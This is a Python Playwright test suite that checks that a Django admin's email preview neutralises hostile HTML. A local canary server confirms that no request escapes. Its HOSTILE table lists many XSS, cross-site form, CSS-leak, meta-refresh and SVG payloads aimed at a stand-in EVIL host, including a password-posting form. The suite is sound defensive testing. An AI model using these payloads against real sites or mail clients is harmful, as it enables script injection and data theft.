"""Hostile emails in the preview: nothing runs, nothing is requested, nothing navigates (S18 to S20)."""

import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest
from playwright.sync_api import Browser, Dialog, Page

from tests.browser.conftest import RunningSite
from tests.browser.visitor import follow

# EVIL is the address of a server that must hear nothing; every body ends with a heading that shows that it was drawn.
HOSTILE = {
    "all at once": """<html><head><meta http-equiv="refresh" content="0;url=http://EVIL/refresh">
<base href="http://EVIL/"><link rel="stylesheet" href="http://EVIL/x.css">
<style>@import url(http://EVIL/i.css); body { background: url(http://EVIL/b.png) }</style></head>
<body onload="document.title='owned'"><script>parent.document.title='owned'; fetch('/admin/')</script>
<img src="http://EVIL/p.png" onerror="alert(1)"><svg onload="alert(1)"><image href="http://EVIL/s"/></svg>
<iframe src="http://EVIL/f"></iframe><form action="/admin/logout/" method="post"><button>go</button></form>
<a href="http://EVIL/link" id="top" target="_top">top</a><a id="here" href="http://EVIL/here">here</a>""",
    "scripts": """<script src="http://EVIL/x.js"></script><script type="module">import "http://EVIL/m.js"</script>
<script>top.location = "http://EVIL/top"; document.title = "owned"; alert(1); window.open("http://EVIL/w")</script>
<img src=x onerror="parent.document.title='owned'"><details open ontoggle="alert(1)">d</details>
<input autofocus onfocus="alert(1)"><video src="http://EVIL/v" onerror="alert(1)" autoplay></video>
<a href="javascript:parent.document.title='owned'" id="here">here</a>""",
    "forms": """<form action="http://EVIL/take" id="f"><input name="password" value="x"><button>go</button></form>
<form action="/admin/emails/lane/pause/" method="post"><input name="reason" value="owned"><button>go</button></form>
<button form="f" formaction="http://EVIL/formaction">go</button><isindex action="http://EVIL/isindex">""",
    "meta and base": """<meta http-equiv="refresh" content="0; url=data:text/html,<script>alert(1)</script>">
<meta http-equiv="refresh" content="0;javascript:alert(1)"><meta http-equiv="Set-Cookie" content="sessionid=evil">
<meta http-equiv="Content-Security-Policy" content="default-src *"><base href="http://EVIL/" target="_top">
<a id="here" href="x">here</a>""",
    "SVG": """<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script>
<a href="http://EVIL/svg-link"><text y="20">t</text></a><use href="http://EVIL/u.svg#x"/>
<foreignObject><iframe src="http://EVIL/fo"></iframe></foreignObject>
<animate attributeName="href" values="javascript:alert(1)"/><image href="http://EVIL/i.png"/></svg>
<img src="data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'%3E%3Cimage href='http://EVIL/d'/%3E%3C/svg%3E">""",
    "CSS": """<style>@import "http://EVIL/a.css"; @font-face { font-family: x; src: url(http://EVIL/f.woff) }
body { font-family: x; cursor: url(http://EVIL/c.cur), auto; background: image-set("http://EVIL/s.png" 1x) }
li { list-style-image: url(http://EVIL/l.png) } h1::after { content: url(http://EVIL/after.png) }
input[value^="x"] { background: url(http://EVIL/leak) } p { behavior: url(http://EVIL/htc); -moz-binding: url(x) }
* { position: fixed !important; inset: 0; }</style><ul><li>x</li></ul><input value="x">""",
    "remote images": """<img src="http://EVIL/a.png"><img srcset="http://EVIL/b.png 2x"><picture><source srcset="http://EVIL/c">
<img src="//EVIL/d.png"></picture><table background="http://EVIL/e.png"><td>t</td></table><input type="image" src="http://EVIL/g">
<video poster="http://EVIL/h"></video><audio src="http://EVIL/i" autoplay></audio><object data="http://EVIL/j"></object>
<embed src="http://EVIL/k"><link rel="icon" href="http://EVIL/l"><link rel="preload" as="image" href="http://EVIL/m">
<link rel="prefetch" href="http://EVIL/n"><link rel="dns-prefetch" href="//EVIL"><track src="http://EVIL/o">""",
    "broken markup": """<table><tr><td><div <script>alert(1)</script </td></iframe></div></body></html><!-- <p>
--!><script>alert(1)</script><plaintext-is-not-here><noscript><p title="</noscript><img src=x onerror=alert(1)>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></table></math>
<textarea></textarea><a href="ja\nvascript:alert(1)" id="here">here</a>""",
    "right-to-left overrides": "\u202egnp.exe\u202c \u2067\u2066hidden\u2069\u2069"
    "\u200f<bdo dir=rtl>moc.live</bdo>\ufeff\u0000",
    "five megabytes": "<p>" + ("<b>deep</b><i>" * 200 + "</i>" * 200 + "x" * 4000) * 600,
}
SEND = (
    "from django.core.mail import send_mail; from emails.models import EmailLog\n"
    "send_mail('Hostile', 'text', None, ['a@example.com'], html_message=BODY)\n"
    "answer = EmailLog.objects.order_by('-id')[0].pk"
)


class Canary(ThreadingHTTPServer):
    """Another host, that hears of every request made to it."""

    def __init__(self) -> None:
        self.heard: list[tuple[str, str]] = []  # Path and Referer.
        canary = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                canary.heard.append((self.path, self.headers.get("Referer", "")))
                self.send_error(404)

            do_POST = do_GET

            def log_message(self, *args: Any) -> None:
                pass

        super().__init__(("127.0.0.1", 0), Handler)


@pytest.fixture
def canary() -> Iterator[Canary]:
    with Canary() as server:
        threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True).start()
        yield server
        server.shutdown()


def dismissing(dialogs: list[str]) -> Callable[[Dialog], None]:
    def dismiss(dialog: Dialog) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    return dismiss


def hostile(site: RunningSite, canary: Canary, name: str, tmp: Any) -> int:
    body = HOSTILE[name].replace("EVIL", f"localhost:{canary.server_address[1]}") + "</p></div><h1>Hostile</h1>"
    file = tmp / "body.html"
    file.write_text(body, encoding="utf-8")  # Five megabytes are too long for a command line.
    pk: int = site.python(SEND.replace("BODY", f"open({str(file)!r}, encoding='utf-8').read()"))
    return pk


@pytest.fixture(scope="module")
def session(console_site: RunningSite, browser: Browser) -> Any:
    """Cookies of somebody who is signed in."""
    page = console_site.sign_in(browser.new_context().new_page())
    state = page.context.storage_state()
    page.context.close()
    return state


# Opened by itself, the answer's own policy is all that holds; it is the same for all of them.
CASES = [(name, True) for name in HOSTILE] + [(name, False) for name in ("all at once", "scripts", "forms", "SVG")]


@pytest.mark.parametrize(("name", "framed"), CASES)
def test_s18_a_hostile_email_runs_nothing_asks_nothing_and_goes_nowhere(
    console_site: RunningSite, browser: Browser, session: Any, canary: Canary, tmp_path: Any, name: str, framed: bool
) -> None:
    pk = hostile(console_site, canary, name, tmp_path)
    context = browser.new_context(storage_state=session)
    page = context.new_page()
    dialogs: list[str] = []
    page.on("dialog", dismissing(dialogs))
    opened: list[Page] = []
    context.on("page", lambda new: opened.append(new))
    cookies = {cookie["name"]: cookie["value"] for cookie in context.cookies()}  # type: ignore[typeddict-item]
    url = f"{console_site.url}/admin/emails/emaillog/{pk}/{'change' if framed else 'preview'}/"
    page.goto(url)
    document: Any = page.frame_locator("iframe.email-frame") if framed else page
    assert document.locator("h1").last.inner_text() == "Hostile"
    for button in document.locator("form button, button[form]").all():
        button.click(force=True, timeout=2000)
    if framed:  # Opened by itself, a click on a link is the reader's own.
        for link in ("#top", "#here"):
            for found in document.locator(link).all():
                found.click(force=True, timeout=2000)
    page.wait_for_timeout(700)
    assert canary.heard == []
    assert dialogs == []
    assert opened == []
    assert page.url == url
    assert "owned" not in page.title()
    after = {cookie["name"]: cookie["value"] for cookie in context.cookies()}  # type: ignore[typeddict-item]
    assert after == cookies
    assert page.request.get(f"{console_site.url}/admin/").url.endswith("/admin/")  # Still signed in.
    context.close()


def test_s18_nothing_of_a_person_is_markup_anywhere(console_site: RunningSite, browser: Browser) -> None:
    name = "<script>document.title='owned'</script><svg onload=alert(1)><base href=//evil.invalid><form action=//x>"
    pk, person = console_site.python(
        "from accounts.models import User; from emails.models import EmailLog\n"
        f"one = User.objects.create_user('evil', 'evil@example.com', first_name={name[:150]!r}, last_name='<b>x')\n"
        "answer = [EmailLog.objects.filter(user=one).latest('pk').pk, one.pk]"
    )
    page = console_site.sign_in(browser.new_context().new_page())
    dialogs: list[str] = []
    page.on("dialog", dismissing(dialogs))
    log = "/admin/emails/emaillog/"
    for path in (
        *(log, f"{log}?q=evil", f"{log}{pk}/change/", f"{log}{pk}/change/?show=source", f"{log}{pk}/resend/"),
        *(f"{log}{pk}/preview/", "/admin/accounts/user/?q=evil", f"/admin/accounts/user/{person}/change/"),
    ):
        page.goto(console_site.url + path)
        assert "owned" not in page.title(), path
        assert page.locator("base, svg[onload], form[action*='//x']").count() == 0, path
    assert dialogs == []
    page.context.close()


def test_s20_remote_images_are_fetched_when_asked_for_and_tell_nobody_from_where(
    console_site: RunningSite, browser: Browser, canary: Canary, tmp_path: Any
) -> None:
    pk = hostile(console_site, canary, "remote images", tmp_path)
    page = console_site.sign_in(browser.new_context().new_page())
    page.goto(f"{console_site.url}/admin/emails/emaillog/{pk}/change/")
    page.wait_for_timeout(500)
    assert canary.heard == []
    follow(page.locator("text=Show remote images"))
    page.wait_for_load_state("networkidle")
    fetched = {path for path, _referer in canary.heard}
    assert {"/a.png", "/e.png"} <= fetched
    # Pictures alone; what a browser fetches before it knows what for (`prefetch`) counts as one.
    assert fetched & {"/f", "/i", "/j", "/k", "/o"} == set()
    assert {referer for _path, referer in canary.heard} == {""}
    follow(page.locator("text=Without remote images"))
    heard = len(canary.heard)
    page.wait_for_timeout(300)
    assert len(canary.heard) == heard
    page.context.close()
